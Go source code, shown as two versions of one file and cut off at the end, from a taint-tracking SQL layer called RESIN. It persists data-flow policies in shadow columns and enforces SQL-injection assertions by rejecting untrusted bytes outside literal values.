	_, affected, err := engine.ExecuteRaw(&Update{Table: s.Table, Set: set, Where: s.Where})
	if err != nil {
		return nil, err
	}
	return &Result{Affected: affected}, nil
}

// execSelect fetches the policy column alongside each selected data
// column, attaches the de-serialized policies to each cell, and hides the
// policy columns from the visible result.
func execSelect(engine *Engine, s *Select) (*Result, error) {
	sel := *s
	if !s.Star {
		pcols := policyColSet(engine, s.Table)
		cols := append([]string(nil), s.Columns...)
		for _, c := range s.Columns {
			if !IsPolicyColumn(c) && pcols[policyColName(c)] {
				cols = append(cols, policyColName(c))
			}
		}
		sel.Columns = cols
		sel.Star = false
	}
	raw, _, err := engine.ExecuteRaw(&sel)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, 0, true)
}

// fromRaw converts an engine result to a tracked Result. When attach is
// true, policy columns are consumed: their annotations are de-serialized
// and attached to the corresponding data cells, and the policy columns
// are removed from the visible result.
func fromRaw(raw *rawResult, affected int, attach bool) (*Result, error) {
	if raw == nil {
		return &Result{Affected: affected}, nil
	}
	// A policy column is consumed as an annotation only when its data
	// column is also part of the result; a policy column selected on its
	// own is returned as opaque data.
	dataCols := make(map[string]bool)
	for _, c := range raw.cols {
		if !IsPolicyColumn(c) {
			dataCols[strings.ToLower(c)] = true
		}
	}
	policyIdx := make(map[string]int) // lower data col name → policy col idx
	var visible []int
	var visibleCols []string
	for i, c := range raw.cols {
		if attach && IsPolicyColumn(c) {
			if base := strings.TrimPrefix(strings.ToLower(c), PolicyColPrefix); dataCols[base] {
				policyIdx[base] = i
				continue
			}
		}
		visible = append(visible, i)
		visibleCols = append(visibleCols, c)
	}
	res := &Result{Columns: visibleCols, Affected: affected}
	for _, row := range raw.rows {
		out := make([]Cell, 0, len(visible))
		for vi, i := range visible {
			v := row[i]
			var ann []byte
			if pi, ok := policyIdx[strings.ToLower(visibleCols[vi])]; ok && !row[pi].null && row[pi].s != "" {
				ann = []byte(row[pi].s)
			}
			cell, err := makeCell(v, ann)
			if err != nil {
				return nil, err
			}
			out = append(out, cell)
		}
		res.Rows = append(res.Rows, out)
	}
	return res, nil
}

// makeCell builds a tracked cell from a stored value and its optional
// serialized policy annotation. Repeated reads of the same stored
// bytes share one immutable tracked string: core.DecodeSpans memoizes
// per (value, annotation) pair, which keeps per-column policy
// propagation on the pointer-comparison fast paths instead of
// re-parsing JSON and re-instantiating policies per row per query.
func makeCell(v value, ann []byte) (Cell, error) {
	if v.null {
		return Cell{Null: true}, nil
	}
	tracked, err := core.DecodeSpans(v.String(), ann)
	if err != nil {
		return Cell{}, err
	}
	if v.isInt {
		n := core.NewInt(v.i)
		// The annotation was stored against the digit string; merge all
		// span policies onto the integer value.
		if tracked.IsTainted() {
			n = n.WithPolicy(tracked.Policies().Policies()...)
		}
		return Cell{IsInt: true, Int: n}, nil
	}
	return Cell{Str: tracked}, nil
}

// DB couples an engine with its RESIN SQL channel. Applications issue
// queries through DB.Query; with tracking enabled the query passes through
// the channel's filter chain (injection assertions + policy persistence),
// with tracking disabled it executes directly against the engine.
type DB struct {
	rt      *core.Runtime
	channel *core.Channel
	filter  *ResinSQLFilter

	// txMu guards engine (swapped by Tx.Commit) and integrity.
	txMu      sync.RWMutex
	engine    *Engine
	integrity []namedAssertion
}

// Open creates an empty database bound to rt, with the default RESIN SQL
// filter installed on its query channel.
func Open(rt *core.Runtime) *DB {
	db := &DB{rt: rt, engine: NewEngine(), filter: &ResinSQLFilter{}}
	db.channel = core.NewChannel(rt, core.KindSQL, db.filter)
	return db
}

// Channel returns the SQL boundary channel (for adding context or extra
// filters).
func (db *DB) Channel() *core.Channel { return db.channel }

// Filter returns the RESIN SQL filter for configuring the injection
// assertions.
func (db *DB) Filter() *ResinSQLFilter { return db.filter }

// Engine returns the underlying engine (tests and benchmarks use it to
// bypass the boundary).
func (db *DB) Engine() *Engine {
	db.txMu.RLock()
	defer db.txMu.RUnlock()
	return db.engine
}

// Query parses and executes one statement built as a tracked string.
func (db *DB) Query(q core.String) (*Result, error) {
	engine := db.Engine()
	out, err := db.channel.Call([]any{q, engine})
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	// Tracking disabled (or no filter consumed the call): execute raw.
	stmt, err := Parse(q)
	if err != nil {
		return nil, err
	}
	raw, affected, err := engine.ExecuteRaw(stmt)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, affected, false)
}

// QueryRaw is a convenience wrapper for untracked query text.
func (db *DB) QueryRaw(q string) (*Result, error) { return db.Query(core.NewString(q)) }

// MustExec runs a query and panics on error; used by application setup
// code for schema creation.
func (db *DB) MustExec(q string) *Result {
	res, err := db.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}
