package sqldb

import (
	"fmt"
	"strings"
	"sync"
	"sync/atomic"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// PolicyColPrefix prefixes the shadow column that stores the serialized
// policy annotation for a data column (Figure 4: "for a CREATE TABLE
// query, the filter adds an additional policy column to store the
// serialized policy for each data column").
const PolicyColPrefix = "__policy_"

func policyColName(col string) string { return PolicyColPrefix + strings.ToLower(col) }

// IsPolicyColumn reports whether a column name is a shadow policy column.
func IsPolicyColumn(name string) bool { return strings.HasPrefix(name, PolicyColPrefix) }

// isPolicyRef is IsPolicyColumn for possibly table-qualified references:
// "reviews.__policy_body" is a policy reference just like
// "__policy_body".
func isPolicyRef(name string) bool {
	if _, col, ok := splitQualifier(name); ok {
		return IsPolicyColumn(col)
	}
	return IsPolicyColumn(name)
}

// policyCompanionName maps a data-column reference to its shadow policy
// column, preserving any table qualifier: "title" → "__policy_title",
// "papers.title" → "papers.__policy_title".
func policyCompanionName(col string) string {
	if qual, c, ok := splitQualifier(col); ok {
		return qual + "." + policyColName(c)
	}
	return policyColName(col)
}

// aggInner splits an aggregate output column name "AGG(inner)" into its
// parts; ok is false for plain column names.
func aggInner(name string) (agg, inner string, ok bool) {
	i := strings.IndexByte(name, '(')
	if i <= 0 || !strings.HasSuffix(name, ")") {
		return "", "", false
	}
	switch up := strings.ToUpper(name[:i]); up {
	case "COUNT", "SUM", "MIN", "MAX", "PUNION":
		return up, name[i+1 : len(name)-1], true
	}
	return "", "", false
}

// InjectionError reports a SQL injection assertion failure, pointing at
// the offending character range of the query.
type InjectionError struct {
	Strategy string
	Query    string
	Start    int
	End      int
}

func (e *InjectionError) Error() string {
	// Clamp both ends into the query's bounds: assertion sites report
	// offsets from lexers and span walks, and a hostile or truncated
	// query must render a diagnostic, never panic the error path.
	clamp := func(i int) int {
		if i < 0 {
			return 0
		}
		if i > len(e.Query) {
			return len(e.Query)
		}
		return i
	}
	start, end := clamp(e.Start), clamp(e.End)
	if start > end {
		start = end
	}
	return fmt.Sprintf("sqldb: SQL injection assertion (%s) rejected query: untrusted bytes %d..%d (%q)",
		e.Strategy, e.Start, e.End, e.Query[start:end])
}

// ResinSQLFilter is the default filter object RESIN attaches to the
// function used to issue SQL queries (§3.4.1). It always performs policy
// persistence — rewriting CREATE TABLE to add policy columns, INSERT and
// UPDATE to store each value's serialized policy, and SELECT to fetch and
// re-attach policies. The two injection defenses of §5.3 are assertions
// the application enables on top:
//
//   - RequireSanitizedMarkers (strategy 1): reject queries containing
//     characters with UntrustedData but not SQLSanitized;
//   - RejectTaintedStructure (strategy 2): tokenize the final query and
//     reject untrusted characters outside string/number literal values
//     (keywords, identifiers, operators, whitespace, comments).
type ResinSQLFilter struct {
	mu                sync.Mutex
	requireSanitized  bool
	rejectTaintedStru bool
	autoSanitize      bool
	plans             atomic.Pointer[planCache]
}

// planner returns the filter's plan cache, creating it on first use (so
// a zero-value ResinSQLFilter works). The hot path is one atomic load —
// no lock on the per-query route to the cache.
func (f *ResinSQLFilter) planner() *planCache {
	if p := f.plans.Load(); p != nil {
		return p
	}
	p := newPlanCache()
	if f.plans.CompareAndSwap(nil, p) {
		return p
	}
	return f.plans.Load()
}

// PlanStats reports the plan cache's hit/miss/invalidation counters.
func (f *ResinSQLFilter) PlanStats() PlanCacheStats { return f.planner().stats() }

// PlanCacheReset empties the plan cache (tests and benchmarks).
func (f *ResinSQLFilter) PlanCacheReset() { f.planner().reset() }

// RequireSanitizedMarkers enables/disables the strategy-1 assertion.
func (f *ResinSQLFilter) RequireSanitizedMarkers(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.requireSanitized = on
}

// RejectTaintedStructure enables/disables the strategy-2 assertion.
func (f *ResinSQLFilter) RejectTaintedStructure(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.rejectTaintedStru = on
}

// AutoSanitizeUntrusted enables the §5.3 variation on strategy 2: instead
// of rejecting queries whose structure is tainted, the tokenizer keeps
// contiguous untrusted bytes in one value token, so untrusted data cannot
// affect the command structure of the query at all. It subsumes the
// reject-based strategies for injection (they may still be enabled
// together; the checks run first).
func (f *ResinSQLFilter) AutoSanitizeUntrusted(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.autoSanitize = on
}

func (f *ResinSQLFilter) flags() (s1, s2, auto bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.requireSanitized, f.rejectTaintedStru, f.autoSanitize
}

// FilterFunc interposes on the query function: args is {query
// core.String, engine *Engine} with an optional third element carrying
// bound `?`-placeholder arguments — either the []Expr of a variadic
// DB.Query/Tx.Query call, or the *preparedExec of a Stmt execution. On
// success it returns {result *Result}. Bound arguments travel as
// values, never as text, so the injection assertions — which inspect
// the query text — skip bound slots by construction.
func (f *ResinSQLFilter) FilterFunc(ch *core.Channel, args []any) ([]any, error) {
	if len(args) != 2 && len(args) != 3 {
		return nil, fmt.Errorf("sqldb: filter expects (query, engine[, bound]), got %d args", len(args))
	}
	q, ok := args[0].(core.String)
	if !ok {
		return nil, fmt.Errorf("sqldb: filter arg 0 must be core.String, got %T", args[0])
	}
	engine, ok := args[1].(*Engine)
	if !ok {
		return nil, fmt.Errorf("sqldb: filter arg 1 must be *Engine, got %T", args[1])
	}
	var bound []Expr
	if len(args) == 3 {
		switch v := args[2].(type) {
		case *preparedExec:
			return f.execPrepared(ch, engine, v)
		case []Expr:
			bound = v
		default:
			return nil, fmt.Errorf("sqldb: filter arg 2 must be bound arguments, got %T", args[2])
		}
	}

	s1, s2, auto := f.flags()
	if s1 {
		if start, end, found := sanitize.UnsanitizedSQL(q); found {
			return nil, &core.AssertionError{
				Context: ch.Context(), Op: "export_check",
				Err: &InjectionError{Strategy: "sanitized-markers", Query: q.Raw(), Start: start, End: end},
			}
		}
	}

	// Tokenize, then resolve through the plan cache: a repeated query
	// shape binds its literals — and its bound arguments — into the
	// cached template without ever reaching the parser. The strategy-2
	// check always judges the standard token stream; on the non-auto
	// path it shares the single lex with execution.
	plans := f.planner()
	var stmt Statement
	var plan *cachedPlan
	var err error
	if auto {
		if s2 {
			if cerr := checkTaintedStructure(q); cerr != nil {
				return nil, &core.AssertionError{Context: ch.Context(), Op: "export_check", Err: cerr}
			}
		}
		stmt, plan, err = plans.prepareQuery(q, true, bound)
	} else {
		toks, lerr := Lex(q)
		if s2 {
			cerr := lerr
			if cerr == nil {
				cerr = checkTaintedStructureTokens(q, toks)
			}
			if cerr != nil {
				return nil, &core.AssertionError{Context: ch.Context(), Op: "export_check", Err: cerr}
			}
		}
		if lerr != nil {
			return nil, lerr
		}
		stmt, plan, err = plans.prepare(toks, planModeStandard, bound)
	}
	if err != nil {
		return nil, err
	}
	res, err := executePlanned(plans, plan, engine, stmt)
	if err != nil {
		return nil, err
	}
	return []any{res}, nil
}

// execPrepared executes a prepared statement through the filter: the
// assertion verdicts were precomputed against the immutable prepared
// text, binding substitutes argument values into the cached template,
// and neither the tokenizer nor the parser runs.
func (f *ResinSQLFilter) execPrepared(ch *core.Channel, engine *Engine, p *preparedExec) ([]any, error) {
	s1, s2, auto := f.flags()
	st := p.stmt
	if s1 && st.s1Found {
		return nil, &core.AssertionError{
			Context: ch.Context(), Op: "export_check",
			Err: &InjectionError{Strategy: "sanitized-markers", Query: st.query.Raw(), Start: st.s1Start, End: st.s1End},
		}
	}
	if s2 && st.s2Err != nil {
		return nil, &core.AssertionError{Context: ch.Context(), Op: "export_check", Err: st.s2Err}
	}
	if auto && st.textUntrusted {
		// The prepared text itself carries untrusted bytes and the
		// auto-sanitizing tokenizer is on: re-lex under taint-aware
		// rules so the untrusted bytes are neutralized exactly as on
		// the text path. (Prepared text is normally programmer-authored
		// and untainted; this path trades speed for fidelity.)
		plans := f.planner()
		stmt, plan, err := plans.prepareQuery(st.query, true, p.bound)
		if err != nil {
			return nil, err
		}
		res, err := executePlanned(plans, plan, engine, stmt)
		if err != nil {
			return nil, err
		}
		return []any{res}, nil
	}
	stmt, err := st.bind(p.bound)
	if err != nil {
		return nil, err
	}
	res, err := executePlanned(f.planner(), st.plan, engine, stmt)
	if err != nil {
		return nil, err
	}
	return []any{res}, nil
}

// checkTaintedStructure implements strategy 2: every byte of the query
// that is not inside a string or number literal — keywords, identifiers,
// operators, punctuation, whitespace, comments — must carry no
// UntrustedData policy.
func checkTaintedStructure(q core.String) error {
	toks, err := Lex(q)
	if err != nil {
		return err
	}
	return checkTaintedStructureTokens(q, toks)
}

// checkTaintedStructureTokens is checkTaintedStructure over an
// already-lexed stream (Prepare reuses its one tokenize).
func checkTaintedStructureTokens(q core.String, toks []Token) error {
	// Collect the byte ranges occupied by value literals; every tainted
	// byte must fall inside one of them.
	type rng struct{ start, end int }
	var values []rng
	for _, t := range toks {
		if t.Type == TokString || t.Type == TokNumber {
			values = append(values, rng{t.Start, t.End})
		}
	}
	inValue := func(i int) bool {
		for _, r := range values {
			if i >= r.start && i < r.end {
				return true
			}
		}
		return false
	}
	var bad *InjectionError
	q.EachTaintedSpan(func(start, end int, ps *core.PolicySet) error { //nolint:errcheck
		if bad != nil || !ps.Any(sanitize.IsUntrusted) {
			return nil
		}
		for i := start; i < end; i++ {
			if !inValue(i) {
				bad = &InjectionError{Strategy: "tainted-structure", Query: q.Raw(), Start: i, End: end}
				return nil
			}
		}
		return nil
	})
	if bad != nil {
		return bad
	}
	return nil
}

// Cell is one result cell with its re-attached policies.
type Cell struct {
	Null  bool
	IsInt bool
	Int   core.Int
	Str   core.String
}

// Text renders the cell as a tracked string (integer cells render their
// digits carrying the integer's policy set; NULL renders empty).
func (c Cell) Text() core.String {
	switch {
	case c.Null:
		return core.String{}
	case c.IsInt:
		return c.Int.ToString()
	default:
		return c.Str
	}
}

// Result is a query result with policies attached to each cell.
type Result struct {
	Columns  []string
	Rows     [][]Cell
	Affected int
}

// ColumnIndex returns the index of the named column, or -1.
func (r *Result) ColumnIndex(name string) int {
	for i, c := range r.Columns {
		if strings.EqualFold(c, name) {
			return i
		}
	}
	return -1
}

// Get returns the cell at row i, column name. It returns a NULL cell for
// unknown columns.
func (r *Result) Get(i int, name string) Cell {
	ci := r.ColumnIndex(name)
	if ci < 0 || i < 0 || i >= len(r.Rows) {
		return Cell{Null: true}
	}
	return r.Rows[i][ci]
}

// Len returns the number of rows.
func (r *Result) Len() int { return len(r.Rows) }

// stmtPolicyTables names the tables whose policy-column sets the
// rewrite of stmt consults; nil for statements rewritten without them.
// A join consults both sides (qualified references resolve against
// either table's shadow columns).
func stmtPolicyTables(stmt Statement) []string {
	switch s := stmt.(type) {
	case *Insert:
		return []string{s.Table}
	case *Update:
		return []string{s.Table}
	case *Select:
		if s.Star {
			return nil
		}
		ts := []string{s.Table}
		if s.Join != nil {
			ts = append(ts, s.Join.Table)
		}
		return ts
	}
	return nil
}

// executeWithPolicies rewrites stmt to persist/fetch policy columns,
// executes it, and re-attaches policies to the result (Figure 4). It is
// the unplanned path (transaction views, diagnostics); queries arriving
// through the filter use executePlanned, which caches the schema-derived
// rewrite state on the plan.
func executeWithPolicies(engine *Engine, stmt Statement) (*Result, error) {
	var pcols map[string]bool
	if tables := stmtPolicyTables(stmt); len(tables) > 0 {
		pcols = policyColSet(engine, tables)
	}
	return execWithPCols(engine, stmt, pcols)
}

// executePlanned is executeWithPolicies for plan-cached statements: the
// policy-column set comes from the plan, recompiled only when the
// engine's schema generation moved since compilation.
func executePlanned(plans *planCache, plan *cachedPlan, engine *Engine, stmt Statement) (*Result, error) {
	var pcols map[string]bool
	if tables := stmtPolicyTables(stmt); len(tables) > 0 {
		if plan != nil {
			pcols = plans.pcolsFor(plan, engine, tables)
		} else {
			pcols = policyColSet(engine, tables)
		}
	}
	return execWithPCols(engine, stmt, pcols)
}

// execWithPCols rewrites stmt against the given policy-column set,
// executes it, and re-attaches policies to SELECT results.
func execWithPCols(engine *Engine, stmt Statement, pcols map[string]bool) (*Result, error) {
	rewritten, err := rewriteWithPCols(stmt, pcols)
	if err != nil {
		return nil, err
	}
	raw, affected, err := engine.ExecuteRaw(rewritten)
	if err != nil {
		return nil, err
	}
	if sel, isSelect := stmt.(*Select); isSelect {
		return fromRaw(raw, 0, true, sel.Table)
	}
	return fromRaw(nil, affected, false, "")
}

// RewriteWithPolicies returns the statement the RESIN filter hands the
// engine in place of stmt: CREATE TABLE grows a shadow policy column
// per data column, INSERT and UPDATE store each value's serialized
// policy, SELECT fetches policy columns alongside data columns. DROP,
// DELETE, and the index statements pass through unchanged. The worked
// Figure 4 example in docs/SQL.md is pinned to this function's output
// by a test.
func RewriteWithPolicies(engine *Engine, stmt Statement) (Statement, error) {
	var pcols map[string]bool
	if tables := stmtPolicyTables(stmt); len(tables) > 0 {
		pcols = policyColSet(engine, tables)
	}
	return rewriteWithPCols(stmt, pcols)
}

// rewriteWithPCols is the pure policy-persistence rewrite (Figure 4).
func rewriteWithPCols(stmt Statement, pcols map[string]bool) (Statement, error) {
	switch s := stmt.(type) {
	case *CreateTable:
		return rewriteCreate(s), nil
	case *Insert:
		return rewriteInsert(s, pcols)
	case *Select:
		return rewriteSelect(s, pcols), nil
	case *Update:
		return rewriteUpdate(s, pcols)
	default: // DropTable, Delete, CreateIndex, DropIndex need no rewriting.
		return stmt, nil
	}
}

// rewriteCreate adds one TEXT policy column per data column.
func rewriteCreate(s *CreateTable) *CreateTable {
	cols := make([]ColumnDef, 0, 2*len(s.Cols))
	cols = append(cols, s.Cols...)
	for _, c := range s.Cols {
		cols = append(cols, ColumnDef{Name: policyColName(c.Name), Type: ColText})
	}
	return &CreateTable{Table: s.Table, Cols: cols}
}

// annotationFor serializes the policy spans of a literal's stored form.
// It returns the expression to store in the policy column. table and col
// name the destination cell for lineage.
func annotationFor(e Expr, table, col string) (Expr, error) {
	var tracked core.String
	switch v := e.(type) {
	case *StringLit:
		tracked = v.Val
	case *IntLit:
		tracked = v.Src
	case *NullLit:
		return &NullLit{}, nil
	case *Placeholder:
		return nil, fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return nil, fmt.Errorf("sqldb: expected literal, got %T", e)
	}
	ann, err := core.EncodeSpans(tracked)
	if err != nil {
		return nil, err
	}
	if ann == nil {
		return &NullLit{}, nil
	}
	if core.LineageEnabled() {
		core.LineageRecordValue(tracked, "sql-store", lineageColNode(table, col))
	}
	return &StringLit{Val: core.NewString(string(ann))}, nil
}

// lineageColNode names a table cell for lineage, e.g. "sql:users.password".
// Qualified references keep their own qualifier. Only called with the
// lineage gate on.
func lineageColNode(table, col string) string {
	lc := strings.ToLower(col)
	if table == "" || strings.Contains(lc, ".") {
		return "sql:" + lc
	}
	return "sql:" + strings.ToLower(table) + "." + lc
}

// recordCellLineage reports a shadow-column load for a policy-carrying
// result cell. Only called with the lineage gate on.
func recordCellLineage(c Cell, node string) {
	switch {
	case c.Null:
	case c.IsInt:
		core.LineageRecord(c.Int.Policies(), "sql-load", node)
	default:
		core.LineageRecordValue(c.Str, "sql-load", node)
	}
}

// policyColSet returns the lower-cased policy column names present in
// the tables' schemas (it may be empty, if a table was created while
// tracking was disabled). Each column appears under both its bare name
// and its table-qualified form, so the rewrite can check companions for
// qualified and unqualified references alike with one map. One schema
// fetch per table serves the whole statement.
func policyColSet(engine *Engine, tables []string) map[string]bool {
	out := make(map[string]bool)
	for _, table := range tables {
		schema, err := engine.Schema(table)
		if err != nil {
			continue
		}
		tl := strings.ToLower(table)
		for _, c := range schema {
			name := strings.ToLower(c.Name)
			if strings.HasPrefix(name, PolicyColPrefix) {
				out[name] = true
				out[tl+"."+name] = true
			}
		}
	}
	return out
}

// rewriteInsert augments each row with the serialized policy of each
// value.
func rewriteInsert(s *Insert, pcols map[string]bool) (*Insert, error) {
	cols := append([]string(nil), s.Columns...)
	augment := make([]bool, len(s.Columns))
	for i, c := range s.Columns {
		if !IsPolicyColumn(c) && pcols[policyColName(c)] {
			augment[i] = true
			cols = append(cols, policyColName(c))
		}
	}
	rows := make([][]Expr, 0, len(s.Rows))
	for _, row := range s.Rows {
		out := append([]Expr(nil), row...)
		for i := range s.Columns {
			if !augment[i] {
				continue
			}
			ann, err := annotationFor(row[i], s.Table, s.Columns[i])
			if err != nil {
				return nil, err
			}
			out = append(out, ann)
		}
		rows = append(rows, out)
	}
	return &Insert{Table: s.Table, Columns: cols, Rows: rows}, nil
}

// rewriteUpdate augments each SET clause with its policy column.
func rewriteUpdate(s *Update, pcols map[string]bool) (*Update, error) {
	set := append([]Assignment(nil), s.Set...)
	for _, a := range s.Set {
		if IsPolicyColumn(a.Column) || !pcols[policyColName(a.Column)] {
			continue
		}
		ann, err := annotationFor(a.Value, s.Table, a.Column)
		if err != nil {
			return nil, err
		}
		set = append(set, Assignment{Column: policyColName(a.Column), Value: ann})
	}
	return &Update{Table: s.Table, Set: set, Where: s.Where}, nil
}

// rewriteSelect fetches a policy companion alongside each selected data
// item; fromRaw later attaches the de-serialized policies to each cell
// and hides the companions from the visible result. Plain items get
// their shadow column (span-preserving). In aggregate queries every
// value-carrying item instead gets a PUNION over the shadow column —
// the engine-level carrier of "an aggregate output carries the union of
// its inputs' policy sets". COUNT(*) aggregates row presence, not
// values, and carries nothing.
func rewriteSelect(s *Select, pcols map[string]bool) *Select {
	if s.Star {
		return s
	}
	sel := *s
	items := append([]SelectItem(nil), s.Items...)
	grouped := s.grouped()
	for _, it := range s.Items {
		switch {
		case it.Agg == "PUNION" || (it.Agg != "" && it.Star):
			// PUNION is already a policy carrier; COUNT(*) has no inputs.
		case isPolicyRef(it.Col) || !pcols[strings.ToLower(policyCompanionName(it.Col))]:
			// Policy columns stay opaque; columns without a shadow column
			// (created untracked) have no policies to fetch.
		case grouped:
			items = append(items, SelectItem{Agg: "PUNION", Col: policyCompanionName(it.Col)})
		default:
			items = append(items, SelectItem{Col: policyCompanionName(it.Col)})
		}
	}
	sel.Items = items
	return &sel
}

// fromRaw converts an engine result to a tracked Result. When attach is
// true, policy columns are consumed: their annotations are de-serialized
// and attached to the corresponding data cells, and the policy columns
// are removed from the visible result. tbl qualifies unqualified column
// names in lineage nodes (it may be empty on attach-free paths).
func fromRaw(raw *rawResult, affected int, attach bool, tbl string) (*Result, error) {
	if raw == nil {
		return &Result{Affected: affected}, nil
	}
	// A policy companion is consumed as an annotation only when the data
	// column it was fetched for is also part of the result; a policy
	// column selected on its own is returned as opaque data. Pairing is
	// driven from the data side: each data column computes the companion
	// name the rewrite would have added — the PUNION form first (grouped
	// results carry unions, non-grouped results span companions; one
	// query never mixes the two for a column) — and claims it by name.
	lower := make([]string, len(raw.cols))
	colPos := make(map[string]int, len(raw.cols))
	for i, c := range raw.cols {
		lower[i] = strings.ToLower(c)
		colPos[lower[i]] = i
	}
	type companion struct {
		pi    int
		union bool // PUNION carrier: whole-value union, not spans
	}
	companions := make([]companion, len(raw.cols))
	for i := range companions {
		companions[i].pi = -1
	}
	claimed := map[string]bool{}
	if attach {
		for i, lc := range lower {
			if agg, inner, ok := aggInner(lc); ok {
				if agg == "PUNION" || inner == "*" || isPolicyRef(inner) {
					continue // policy carriers and COUNT(*) pair with nothing
				}
				want := "punion(" + strings.ToLower(policyCompanionName(inner)) + ")"
				if pi, found := colPos[want]; found {
					companions[i] = companion{pi: pi, union: true}
					claimed[want] = true
				}
				continue
			}
			if isPolicyRef(lc) {
				continue // policy columns are never a pairing's data side
			}
			comp := strings.ToLower(policyCompanionName(lc))
			if pi, found := colPos["punion("+comp+")"]; found {
				companions[i] = companion{pi: pi, union: true}
				claimed["punion("+comp+")"] = true
			} else if pi, found := colPos[comp]; found {
				companions[i] = companion{pi: pi}
				claimed[comp] = true
			}
		}
	}
	var visible []int
	var visibleCols []string
	for i, c := range raw.cols {
		if attach && claimed[lower[i]] {
			continue
		}
		visible = append(visible, i)
		visibleCols = append(visibleCols, c)
	}
	// Resolve each visible column's companion once; the row loop then
	// indexes by position instead of re-lowering names per cell.
	visPolicy := make([]int, len(visible))
	visUnion := make([]bool, len(visible))
	for vi, i := range visible {
		visPolicy[vi] = companions[i].pi
		visUnion[vi] = companions[i].union
	}
	// Lineage nodes per visible column, resolved once per result; nil
	// keeps the disabled path at exactly one gate check.
	var linNodes []string
	if attach && core.LineageEnabled() {
		linNodes = make([]string, len(visible))
		for vi := range visible {
			linNodes[vi] = lineageColNode(tbl, visibleCols[vi])
		}
	}
	// Batched shadow-policy decode: each distinct annotation in the
	// result set is compiled (JSON-parsed, policies instantiated, sets
	// interned) exactly once — core.CompileAnnotation memoizes globally
	// and the local map short-circuits even that lookup — then applied
	// per cell. A SELECT returning N rows over a handful of distinct
	// policies does O(distinct annotations) decodes, not O(N·cols).
	res := &Result{Columns: visibleCols, Affected: affected}
	var compiled map[string]*core.CompiledAnnotation
	compileAnn := func(ann string) (*core.CompiledAnnotation, error) {
		if c, ok := compiled[ann]; ok {
			return c, nil
		}
		c, err := core.CompileAnnotation([]byte(ann))
		if err != nil {
			return nil, err
		}
		if compiled == nil {
			compiled = make(map[string]*core.CompiledAnnotation, 4)
		}
		compiled[ann] = c
		return c, nil
	}
	// PUNION cells decode once per distinct joined value: split on the
	// separator, compile each annotation, union the per-span policy sets
	// into one whole-value set (interned operands make repeats cheap).
	var unionSets map[string]*core.PolicySet
	unionFor := func(cell string) (*core.PolicySet, error) {
		if s, ok := unionSets[cell]; ok {
			return s, nil
		}
		var set *core.PolicySet
		for _, part := range strings.Split(cell, punionSep) {
			c, err := compileAnn(part)
			if err != nil {
				return nil, err
			}
			set = set.Union(c.PolicySet())
		}
		if unionSets == nil {
			unionSets = make(map[string]*core.PolicySet, 4)
		}
		unionSets[cell] = set
		return set, nil
	}
	for _, row := range raw.rows {
		out := make([]Cell, 0, len(visible))
		for vi, i := range visible {
			v := row[i]
			var c Cell
			if pi := visPolicy[vi]; pi >= 0 && !row[pi].null && row[pi].s != "" {
				if visUnion[vi] {
					set, err := unionFor(row[pi].s)
					if err != nil {
						return nil, err
					}
					c = makeCellUnion(v, set)
				} else {
					comp, err := compileAnn(row[pi].s)
					if err != nil {
						return nil, err
					}
					c = makeCell(v, comp)
				}
			} else {
				c = makeCell(v, nil)
			}
			if linNodes != nil {
				recordCellLineage(c, linNodes[vi])
			}
			out = append(out, c)
		}
		res.Rows = append(res.Rows, out)
	}
	return res, nil
}

// makeCell builds a tracked cell from a stored value and its optional
// compiled policy annotation. The compiled annotation is shared across
// every cell (and every query) storing the same annotation bytes, so
// the per-cell work is a span attach over already-interned policy sets
// — the pointer-comparison fast paths — never JSON parsing or policy
// instantiation.
func makeCell(v value, comp *core.CompiledAnnotation) Cell {
	if v.null {
		return Cell{Null: true}
	}
	tracked := comp.Apply(v.String())
	if v.isInt {
		n := core.NewInt(v.i)
		// The annotation was stored against the digit string; merge all
		// span policies onto the integer value.
		if tracked.IsTainted() {
			n = n.WithPolicy(tracked.Policies().Policies()...)
		}
		return Cell{IsInt: true, Int: n}
	}
	return Cell{Str: tracked}
}

// makeCellUnion builds a tracked cell carrying a whole-value policy set
// — the attach path for aggregate outputs, whose policies are a union
// of the group's inputs with no meaningful byte positions.
func makeCellUnion(v value, set *core.PolicySet) Cell {
	if v.null {
		return Cell{Null: true}
	}
	if v.isInt {
		n := core.NewInt(v.i)
		if set.Len() > 0 {
			n = n.WithPolicy(set.Policies()...)
		}
		return Cell{IsInt: true, Int: n}
	}
	s := core.NewString(v.s)
	if set.Len() > 0 {
		s = s.WithPolicySet(set)
	}
	return Cell{Str: s}
}

// DB couples an engine with its RESIN SQL channel. Applications issue
// queries through DB.Query; with tracking enabled the query passes through
// the channel's filter chain (injection assertions + policy persistence),
// with tracking disabled it executes directly against the engine.
type DB struct {
	rt      *core.Runtime
	channel *core.Channel
	filter  *ResinSQLFilter

	// txMu guards engine and integrity. The engine pointer is fixed for
	// the DB's lifetime (Tx.Commit merges row versions into it rather
	// than swapping it); the lock still serializes integrity-assertion
	// registration against commits, which snapshot the assertion list.
	txMu      sync.RWMutex
	engine    *Engine
	integrity []namedAssertion
}

// Open creates an empty database bound to rt, with the default RESIN SQL
// filter installed on its query channel.
func Open(rt *core.Runtime) *DB {
	db := &DB{rt: rt, engine: NewEngine(), filter: &ResinSQLFilter{}}
	db.channel = core.NewChannel(rt, core.KindSQL, db.filter)
	return db
}

// Channel returns the SQL boundary channel (for adding context or extra
// filters).
func (db *DB) Channel() *core.Channel { return db.channel }

// Filter returns the RESIN SQL filter for configuring the injection
// assertions.
func (db *DB) Filter() *ResinSQLFilter { return db.filter }

// Engine returns the underlying engine (tests and benchmarks use it to
// bypass the boundary).
func (db *DB) Engine() *Engine {
	db.txMu.RLock()
	defer db.txMu.RUnlock()
	return db.engine
}

// Query parses and executes one statement built as a tracked string.
// args bind the statement's `?` placeholders by position — tracked
// values (core.String, core.Int) keep their policies, plain Go values
// bind untainted, and no argument is ever spliced into the query text.
// The historical zero-argument form is the args-free call.
func (db *DB) Query(q core.String, args ...any) (*Result, error) {
	engine := db.Engine()
